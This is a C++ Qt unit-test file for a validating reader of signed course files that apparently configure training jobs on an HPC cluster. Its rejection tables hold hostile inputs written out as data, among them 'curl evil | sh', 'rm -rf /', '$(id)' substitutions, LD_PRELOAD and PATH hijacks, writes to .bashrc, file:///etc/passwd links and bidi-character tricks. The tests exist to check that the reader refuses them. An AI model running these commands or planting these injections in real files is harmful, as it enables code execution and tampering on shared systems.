// SPDX-FileCopyrightText: 2026 The Rankwright authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/script/document/designjson.h"
#include "models/teaching/classroom/classeffects.h"
#include "models/teaching/classroom/classreader.h"
#include "models/teaching/classroom/shippedclasses.h"
#include "tests/support/jsonput.h"
#include "tests/support/testbase.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>

using namespace rankwright;
using namespace Qt::StringLiterals;

namespace {

/// A class with everything in it.
QJsonObject whole()
{
    QFile file(test::sourcePath(u"/tests/data/classroom/whole.rwclass"));
    return file.open(QIODevice::ReadOnly) ? QJsonDocument::fromJson(file.readAll()).object() : QJsonObject();
}

Result<ClassFile> readObject(const QJsonObject& object)
{
    return readClass(QJsonDocument(object).toJson(), u"x.rwclass"_s);
}

} // namespace

class ClassReaderTest final : public test::Suite {
    Q_OBJECT
private slots:
    void readsEverything();
    void roundTrips();
    void signedBytesAreDeterministic();
    void refuses_data();
    void refuses();
    void knowsWhenItExpires();
    void limitsAreCheckedWhereThereAreSome();
    void refusesNewerVersions();
    void oneTextHasOneMeaning_data();
    void oneTextHasOneMeaning();
    void refusesHugeAndDeepFiles();
    void survivesChangedBytes();
    void saysWhatItWillDo();
    void readsLinksToClasses_data();
    void readsLinksToClasses();
};

void ClassReaderTest::readsEverything()
{
    const auto file = readObject(whole());
    QVERIFY_RESULT(file);
    QCOMPARE(file->title, u"A course"_s);
    QCOMPARE(file->reservation->name, u"AI_workshop"_s);
    QCOMPARE(file->reservation->end, QDateTime::fromString(u"2026-12-01T16:00:00Z"_s, Qt::ISODate));
    QCOMPARE(file->limits.maxTime->count, 900);
    QCOMPARE(file->locked.value(u"training.globalBatch"_s).toInt(), 32);
    QCOMPARE(file->exercises.size(), 2);
    QCOMPARE(file->exercises.first().start.resources.gpusPerNode, 8);
    QCOMPARE(file->exercises.first().hints.size(), 2);
    QCOMPARE(file->exercises.last().checks.last().against, u"one"_s);
    QCOMPARE(file->exercises.last().solution->launcher, Launcher::Srun);
    QVERIFY(file->signature.isEmpty());
}

void ClassReaderTest::roundTrips()
{
    const auto file = readObject(whole());
    QVERIFY_RESULT(file);
    const auto again = readClass(writeClass(*file), u"again"_s);
    QVERIFY_RESULT(again);
    QVERIFY(*again == *file);
    const auto fromValue = readClass(writeClass(unsignedClass(*file)), u"value"_s); // written from the value alone
    QVERIFY_RESULT(fromValue);
    QVERIFY(unsignedClass(*fromValue) == unsignedClass(*file));
    QVERIFY(!classFault(newClass(u"practice"_s, u"T"_s, u"A"_s)));
}

void ClassReaderTest::signedBytesAreDeterministic()
{
    const auto file = readObject(whole());
    const auto spaced = readClass(QJsonDocument(whole()).toJson(QJsonDocument::Compact), u"y"_s);
    QCOMPARE(classBytes(*file), classBytes(*spaced));
    QJsonObject other = whole();
    other.insert(u"title"_s, u"A coursf"_s);
    QVERIFY(classBytes(*readObject(other)) != classBytes(*file));
}

void ClassReaderTest::refuses_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QJsonValue>("value");
    const auto row
        = [](const char* name, const QString& path, const QJsonValue& value) { QTest::newRow(name) << path << value; };
    row("a host", u"host"_s, u"evil.example"_s);
    row("a login", u"login"_s, QJsonObject{{u"host"_s, u"evil.example"_s}});
    row("a host in an exercise", u"exercises.0.host"_s, u"evil.example"_s);
    row("a host in a design", u"exercises.0.design.host"_s, u"evil.example"_s);
    row("a command of its own", u"run"_s, u"rm -rf /"_s);
    row("another cluster's design", u"exercises.0.design.cluster"_s, u"mahti"_s);
    row("account with a command", u"account"_s, u"p;rm -rf /"_s);
    row("account as an option", u"account"_s, u"--wrap=sh"_s);
    row("account with a line", u"account"_s, u"p\n#SBATCH --wrap=x"_s);
    row("partition", u"partition"_s, u"a b"_s);
    row("reservation", u"reservation.name"_s, u"$(id)"_s);
    row("reservation without a name", u"reservation.name"_s, QString());
    row("reservation that ends first", u"reservation.end"_s, u"2026-11-01T08:00:00Z"_s);
    row("expiry in words", u"expires"_s, u"tomorrow"_s);
    row("expiry without a zone", u"expires"_s, u"2026-12-31T10:00:00"_s);
    row("expiry on no day", u"expires"_s, u"2026-02-30"_s);
    row("expiry as a number", u"expires"_s, 20261231);
    row("expiry before the reservation ends", u"expires"_s, u"2026-12-01T15:59:59Z"_s);
    row("hint with a direction", u"exercises.0.checks.0.hint"_s, u"a\u202eb"_s);
    row("hint as a number", u"exercises.0.checks.0.hint"_s, 1);
    row("loss that falls by nothing", u"exercises.0.checks.0"_s, QJsonObject{{u"check"_s, u"loss-fell"_s}});
    row("container", u"container"_s, u"/a/x.sif\"; id; \""_s);
    row("container above", u"container"_s, u"/a/../../x.sif"_s);
    row("container in a registry", u"container"_s, u"docker://evil/x"_s);
    row("cluster", u"cluster"_s, u"../lumi"_s);
    row("no cluster", u"cluster"_s, QString());
    row("progress folder", u"progressFolder"_s, u"/tmp/$(id)"_s);
    row("progress folder, relative", u"progressFolder"_s, u"class"_s);
    row("progress folder of another", u"progressFolder"_s, u"~bob/x"_s);
    row("javascript", u"links.0.url"_s, u"javascript:alert(1)"_s);
    row("http", u"links.0.url"_s, u"http://docs.example/"_s);
    row("file", u"links.0.url"_s, u"file:///etc/passwd"_s);
    row("user part", u"links.0.url"_s, u"https://docs.example@evil.example/"_s);
    row("quote in link", u"links.0.url"_s, u"https://docs.example/\"onclick=x"_s);
    row("line break in link", u"links.0.url"_s, u"https://docs.example/\nx"_s);
    row("direction", u"title"_s, u"A \u202ecourse"_s);
    row("zero width", u"author"_s, u"A\u200bda"_s);
    row("escape", u"exercises.0.task"_s, u"\u001b[2J"_s);
    row("direction in a hint", u"exercises.0.hints"_s, QJsonArray{u"\u2066x"_s});
    row("direction in a design", u"exercises.0.design.name"_s, u"a\u202eb"_s);
    row("long title", u"title"_s, QString(201, u'x'));
    row("long task", u"exercises.0.task"_s, QString(4001, u'x'));
    row("two lines of title", u"title"_s, u"a\nb"_s);
    row("setup", u"exercises.0.design.environment"_s, QJsonObject{{u"setup"_s, QJsonArray{u"curl evil | sh"_s}}});
    row("overrides", u"exercises.0.design.overrides"_s,
        QJsonArray{QJsonObject{{u"after"_s, QString()}, {u"lines"_s, QJsonArray{u"id"_s}}}});
    row("command joined", u"exercises.0.design.command"_s, u"train.py; curl evil"_s);
    row("command substituted", u"exercises.0.design.command"_s, u"train.py $(curl evil)"_s);
    row("command redirected", u"exercises.0.design.command"_s, u"train.py > ~/.bashrc"_s);
    row("command is not a Python program", u"exercises.0.design.command"_s, u"/bin/sh x"_s);
    row("command is code", u"exercises.0.design.command"_s, u"-c import~os"_s);
    row("command in the solution", u"exercises.1.solution.command"_s, u"a.py & id"_s);
    row("command locked", u"limits.locked.command"_s, u"a.py | sh"_s);
    row("setup locked", u"limits.locked.environment!setup"_s, QJsonArray{u"id"_s});
    row("overrides locked", u"limits.locked.overrides"_s, QJsonArray{});
    row("path locked to a wrong value", u"limits.locked.resources!nodes"_s, u"two"_s);
    row("no field locked", u"limits.locked.host"_s, u"x"_s);
    row("locked and open", u"limits.locked.launcher"_s, u"srun"_s);
    row("preload", u"exercises.0.design.environment.variables"_s, QJsonObject{{u"LD_PRELOAD"_s, u"/tmp/x.so"_s}});
    row("path variable", u"exercises.0.design.environment.variables"_s, QJsonObject{{u"PATH"_s, u"/tmp"_s}});
    row("variable's name", u"exercises.0.design.environment.variables"_s, QJsonObject{{u"A;id"_s, u"1"_s}});
    row("log in a folder", u"exercises.0.design.options"_s, QJsonObject{{u"output"_s, u"/users/ada/.bashrc"_s}});
    row("hidden log", u"exercises.0.design.options"_s, QJsonObject{{u"output"_s, u".bashrc"_s}});
    row("mail", u"exercises.0.design.options"_s, QJsonObject{{u"mailUser"_s, u"evil@example.org"_s}});
    row("array", u"exercises.0.design.options"_s, QJsonObject{{u"array"_s, u"0-9999"_s}});
    row("file of this computer", u"exercises.0.design.model"_s, QJsonObject{{u"hfConfig"_s, u"/etc/passwd"_s}});
    row("bind", u"exercises.0.design.environment.binds"_s, QJsonArray{u"/:/x y"_s});
    row("work folder", u"exercises.0.design.workdir"_s, u"/a;id"_s);
    row("unknown check", u"exercises.0.checks.0.check"_s, u"shell"_s);
    row("check without its number", u"exercises.0.checks.0"_s, QJsonObject{{u"check"_s, u"gpus"_s}});
    row("check with another's parameter", u"exercises.0.checks.0.word"_s, u"x"_s);
    row("check against nothing", u"exercises.1.checks.1.against"_s, u"nine"_s);
    row("check against itself", u"exercises.1.checks.1.against"_s, u"two"_s);
    row("launcher's word", u"exercises.1.checks.0.word"_s, u"sh"_s);
    row("same id twice", u"exercises.1.id"_s, u"one"_s);
    row("id with a path", u"exercises.1.id"_s, u"../x"_s);
    row("no exercises", u"exercises"_s, QJsonArray());
    row("exercises of another kind", u"exercises"_s, u"none"_s);
    row("open field that is none", u"exercises.1.open"_s, QJsonArray{u"host"_s});
    row("limit below 1", u"limits.maxNodes"_s, 0);
    row("limit that is huge", u"limits.maxNodes"_s, 1e300);
    row("time", u"limits.maxTime"_s, u"never"_s);
    row("signature without a key", u"signature"_s, QJsonObject{{u"value"_s, u"x"_s}});
    row("another kind of key", u"signature"_s, QJsonObject{{u"key"_s, u"ssh-rsa AAAA"_s}, {u"value"_s, u"x"_s}});
    row("another format", u"format"_s, u"other"_s);
    row("version as text", u"version"_s, u"1"_s);
    QJsonArray many;
    for (int i = 0; i < 31; ++i)
        many.append(QJsonObject{{u"title"_s, u"t"_s}, {u"url"_s, u"https://a.example/"_s}});
    row("too many links", u"links"_s, many);
    QJsonArray checks;
    for (int i = 0; i < 21; ++i)
        checks.append(QJsonObject{{u"check"_s, u"completed"_s}});
    row("too many checks", u"exercises.0.checks"_s, checks);
}

void ClassReaderTest::refuses()
{
    QFETCH(QString, path);
    QFETCH(QJsonValue, value);
    const auto file = readObject(test::putAt(whole(), path.split(u'.'), value).toObject());
    QVERIFY(!file);
    QVERIFY(!file.error().what.isEmpty());
    QVERIFY(!file.error().remedy.isEmpty());
}

void ClassReaderTest::knowsWhenItExpires()
{
    const auto at = [](const char* text) { return QDateTime::fromString(QString::fromLatin1(text), Qt::ISODate); };
    QJsonObject object = whole();
    object.remove(u"expires"_s);
    QVERIFY(!expiryFault(*readObject(object), at("2999-01-01T00:00:00Z"))); // without a date: never
    object.insert(u"expires"_s, u"2026-12-31"_s);
    auto file = readObject(object);
    QVERIFY_RESULT(file);
    QCOMPARE(file->expires, at("2026-12-31T23:59:59Z"));
    QVERIFY(!expiryFault(*file, at("2026-12-31T23:59:59Z")));
    const auto fault = expiryFault(*file, at("2027-01-01T00:00:00Z"));
    QVERIFY(fault && fault->what.contains(u"2026-12-31"_s) && !fault->remedy.isEmpty());
    QVERIFY(classEffects(*file, loadCatalogue()).join(u' ').contains(u"2026-12-31 23:59"_s));
    object.insert(u"expires"_s, u"2026-12-31T10:00:00+02:00"_s);
    file = readObject(object);
    QVERIFY_RESULT(file);
    QCOMPARE(file->expires, at("2026-12-31T08:00:00Z"));
    const auto again = readClass(writeClass(unsignedClass(*file)), u"again"_s); // from the value alone
    QVERIFY_RESULT(again);
    QCOMPARE(again->expires, file->expires);
    // It is among what is signed.
    ClassFile later = unsignedClass(*file);
    later.expires = later.expires.addDays(1);
    QVERIFY(classBytes(later) != classBytes(unsignedClass(*file)));
}

void ClassReaderTest::limitsAreCheckedWhereThereAreSome()
{
    QJsonObject object = test::putAt(whole(), {u"exercises"_s, u"0"_s, u"checks"_s, u"0"_s},
        QJsonObject{{u"check"_s, u"within-limits"_s}, {u"hint"_s, u"Ask for less."_s}})
                             .toObject();
    const auto file = readObject(object);
    QVERIFY_RESULT(file);
    QCOMPARE(file->exercises.first().checks.first().kind, ClassCheckKind::WithinLimits);
    QCOMPARE(file->exercises.first().checks.first().hint, u"Ask for less."_s);
    object.remove(u"limits"_s);
    QVERIFY(!readObject(object));
}

void ClassReaderTest::refusesNewerVersions()
{
    QJsonObject object = whole();
    object.insert(u"version"_s, 2);
    object.insert(u"somethingNew"_s, true);
    const auto file = readObject(object);
    QVERIFY(!file);
    QVERIFY2(file.error().what.contains(u"newer version"_s), qPrintable(file.error().what));
}

void ClassReaderTest::oneTextHasOneMeaning_data()
{
    QTest::addColumn<QByteArray>("from");
    QTest::addColumn<QByteArray>("to");
    QTest::addColumn<bool>("isSame"); ///< the same class, signed alike; else refused
    const auto row = [](const char* name, const QByteArray& from, const QByteArray& to, bool isSame = false) {
        QTest::newRow(name) << from << to << isSame;
    };
    const QByteArray title("\"title\":\"A course\"");
    row("title twice", title, title + ",\"title\":\"Another\"");
    row("title twice alike", title, title + ',' + title);
    row("title twice, escaped", title, title + ",\"t\\u0069tle\":\"Another\"");
    row("limit twice", "\"maxNodes\":2", "\"maxNodes\":2,\"maxNodes\":64");
    row("command twice", "\"command\":", "\"command\":\"a.py\",\"command\":");
    row("variable twice", "\"NCCL_DEBUG\":", "\"NCCL_DEBUG\":\"WARN\",\"NCCL_DEBUG\":");
    row("check twice", "\"check\":\"gpus\"", "\"check\":\"gpus\",\"check\":\"nodes\"");
    row("unknown", title, title + ",\"note\":1");
    row("unknown in limits", "\"maxNodes\":2", "\"maxNodes\":2,\"minNodes\":1");
    row("unknown in a check", "\"check\":\"gpus\"", "\"check\":\"gpus\",\"note\":1");
    row("unknown in a design", "\"gpusPerNode\":8", "\"gpusPerNode\":8,\"note\":1");
    row("unknown in a link", "\"links\":[{", "\"links\":[{\"note\":1,");
    row("a number in another way", "\"maxNodes\":2", "\"maxNodes\":0.2e1", true);
    row("a number with a fraction", "\"maxNodes\":2", "\"maxNodes\":2.0", true);
    row("a number that is none", "\"value\":1.5", "\"value\":1e999");
    row("a number below all", "\"value\":1.5", "\"value\":-1e999");
    row("a number in a locked field", "\"training.globalBatch\":32", "\"training.globalBatch\":1e999");
    row("not a number", "\"value\":1.5", "\"value\":NaN");
    row("hexadecimal", "\"maxNodes\":2", "\"maxNodes\":0x2");
    row("escapes", title, "\"title\":\"\\u0041 course\"", true);
    row("escaped member", title, "\"t\\u0069tle\":\"A course\"", true);
    row("a colon in a text", title, "\"title\":\"A: course\",\"about\":\"a\\\":b\",\"title\":\"x\"");
    row("NUL", title, QByteArray("\"title\":\"A\0course\"", 18));
    row("NUL, escaped", title, "\"title\":\"A\\u0000course\"");
    row("half a pair", title, "\"title\":\"A\\ud800course\"");
    row("half a pair in a member", title, title + ",\"\\udc00\":1");
    row("no UTF-8", title, "\"title\":\"A\xff\"");
    row("long UTF-8", title, "\"title\":\"A\xc0\xa0\"");
    row("half a pair in UTF-8", title, "\"title\":\"A\xed\xa0\x80\"");
    row("mark before a member", "\"maxNodes\":2", "\"\xef\xbb\xbfmaxNodes\":2");
    row("mark before a text", title,
        "\"title\":\"\xef\xbb\xbf"
        "A course\"");
    row("comment", title, "/* x */" + title);
    row("comma at the end", title + ',', title + ",,");
    row("single quotes", title, "'title':'A course'");
}

/// What is signed is the text as it was read: two texts with one signature mean the same to every reader.
void ClassReaderTest::oneTextHasOneMeaning()
{
    QFETCH(const QByteArray, from);
    QFETCH(const QByteArray, to);
    QFETCH(const bool, isSame);
    const QByteArray good = QJsonDocument(whole()).toJson(QJsonDocument::Compact);
    const auto before = readClass(good, u"x"_s);
    QVERIFY_RESULT(before);
    QVERIFY(good.contains(from));
    QByteArray bytes = good;
    bytes.replace(good.indexOf(from), from.size(), to);
    const auto after = readClass(bytes, u"x"_s);
    QCOMPARE(after.hasValue(), isSame);
    if (!isSame) {
        QVERIFY(!after.error().what.isEmpty() && !after.error().oneLine().contains(u'\n'));
        return;
    }
    QVERIFY(*after == *before);
    QCOMPARE(classBytes(*after), classBytes(*before));
}

void ClassReaderTest::refusesHugeAndDeepFiles()
{
    QVERIFY(!readClass(QByteArray(classbounds::bytes + 1, ' '), u"huge"_s));
    QVERIFY(!readClass(QByteArray(900000, '['), u"deep"_s));
    QVERIFY(!readClass(
        "{\"format\": \"rankwright-class\", \"version\": 1, \"a\": " + QByteArray(30, '[') + QByteArray(30, ']') + '}',
        u"deep"_s));
    QVERIFY(!readClass({}, u"empty"_s));
    QVERIFY(!readClass(QByteArray(100, '\0'), u"zeros"_s));
    const QByteArray good = QJsonDocument(whole()).toJson();
    for (const QByteArray& behind :
        {QByteArray("{}"), QByteArray(1, '\0'), QByteArray("x"), QByteArray("\xef\xbb\xbf")})
        QVERIFY(!readClass(good + behind, u"more"_s)); // of what stands behind nothing is signed
}

void ClassReaderTest::survivesChangedBytes()
{
    const QByteArray good = QJsonDocument(whole()).toJson();
    quint32 state = 20261123;
    const auto next = [&state](quint32 below) {
        state = state * 1664525U + 1013904223U;
        return (state >> 8) % below;
    };
    int readable = 0;
    for (int i = 0; i < 1500; ++i) {
        QByteArray bytes = good;
        for (quint32 change = 0; change <= next(3); ++change) {
            const auto at = qsizetype(next(quint32(bytes.size())));
            switch (next(4)) {
            case 0: bytes[at] = char(next(256)); break;
            case 1: bytes.remove(at, 1 + next(20)); break;
            case 2: bytes.insert(at, bytes.mid(qsizetype(next(quint32(bytes.size()))), 30)); break;
            default: bytes.truncate(at + 1); break;
            }
        }
        const auto file = readClass(bytes, u"changed"_s);
        if (!file) {
            QVERIFY(!file.error().what.isEmpty());
            continue;
        }
        ++readable; // what is read is read again from what is written
        const auto again = readClass(writeClass(*file), u"again"_s);
        QVERIFY_RESULT(again);
        QVERIFY(*again == *file);
    }
    QVERIFY(readable > 0);
}

void ClassReaderTest::saysWhatItWillDo()
{
    const Catalogue catalogue = loadCatalogue();
    const auto file = readObject(whole());
    const QString all = classEffects(*file, catalogue).join(u'\n');
    QVERIFY2(all.contains(u"lumi.csc.fi"_s), qPrintable(all)); // the catalogue's, since the file has none
    QVERIFY(all.contains(u"project_465000001"_s));
    QVERIFY(all.contains(u"AI_workshop"_s));
    QVERIFY(all.contains(u"train.py --steps 10"_s));
    QVERIFY(all.contains(u"NCCL_DEBUG=INFO"_s));
    QVERIFY(all.contains(u"/scratch/project_465000001/class"_s));
    QVERIFY(all.contains(u"docs.lumi-supercomputer.eu"_s));
    ClassFile unknown = *file;
    unknown.cluster = u"nowhere"_s;
    QVERIFY(classEffects(unknown, catalogue).first().contains(u"does not know"_s));
}

void ClassReaderTest::readsLinksToClasses_data()
{
    QTest::addColumn<QString>("link");
    QTest::addColumn<QString>("url");
    QTest::addColumn<QString>("file");
    const QString none;
    QTest::newRow("url") << u"rankwright://class?url=https%3A%2F%2Fexample.org%2Fa.rwclass"_s
                         << u"https://example.org/a.rwclass"_s << none;
    QTest::newRow("file") << u"rankwright://class?file=%2Fhome%2Fada%2Fa.rwclass"_s << none << u"/home/ada/a.rwclass"_s;
    QTest::newRow("http") << u"rankwright://class?url=http%3A%2F%2Fexample.org%2Fa"_s << none << none;
    QTest::newRow("javascript") << u"rankwright://class?url=javascript%3Aalert(1)"_s << none << none;
    QTest::newRow("two") << u"rankwright://class?url=https%3A%2F%2Fa.org%2Fa&file=%2Fa.rwclass"_s << none << none;
    QTest::newRow("twice") << u"rankwright://class?file=%2Fa.rwclass&file=%2Fb.rwclass"_s << none << none;
    QTest::newRow("relative") << u"rankwright://class?file=a.rwclass"_s << none << none;
    QTest::newRow("above") << u"rankwright://class?file=%2Fa%2F..%2Fb.rwclass"_s << none << none;
    QTest::newRow("other file") << u"rankwright://class?file=%2Fetc%2Fpasswd"_s << none << none;
    QTest::newRow("other action") << u"rankwright://run?file=%2Fa.rwclass"_s << none << none;
    QTest::newRow("other scheme") << u"https://class?file=%2Fa.rwclass"_s << none << none;
    QTest::newRow("user") << u"rankwright://ada@class?file=%2Fa.rwclass"_s << none << none;
    QTest::newRow("nothing") << u"rankwright://class"_s << none << none;
    QTest::newRow("empty") << QString() << none << none;
    QTest::newRow("control") << u"rankwright://class?file=%2Fa%0A.rwclass"_s << none << none;
    QTest::newRow("direction") << u"rankwright://class?file=%2Fa%E2%80%AE.rwclass"_s << none << none;
}

void ClassReaderTest::readsLinksToClasses()
{
    QFETCH(QString, link);
    QFETCH(QString, url);
    QFETCH(QString, file);
    const auto address = readClassAddress(link);
    QCOMPARE(address.hasValue(), !url.isEmpty() || !file.isEmpty());
    if (address) {
        QCOMPARE(address->url, url);
        QCOMPARE(address->file, file);
    }
}

RANKWRIGHT_TEST_MAIN(ClassReaderTest)
#include "tst_classreader.moc"
